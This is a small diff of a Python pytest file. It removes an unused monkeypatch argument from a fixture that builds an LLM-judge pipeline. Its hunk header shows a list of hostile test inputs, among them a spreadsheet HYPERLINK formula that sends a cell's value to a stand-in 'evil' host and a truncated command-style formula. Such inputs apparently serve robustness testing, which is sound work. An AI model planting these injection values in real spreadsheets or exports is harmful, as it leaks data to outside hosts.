@@ -44,7 +44,7 @@ HOSTILE = ["x \ud800 lone", "=HYPERLINK(\"http://evil/?x=\"&B2,\"Click\")", "+cm
 
 
 @pytest.fixture
-def judge(project, scripted_llm, monkeypatch):
+def judge(project, scripted_llm):
     project.schema("verdict.schema.json", VERDICT_SCHEMA)
     project.prompt("ask.j2", "Judge: {{ item.claim }}\n")
     return project.pipeline(JUDGE)
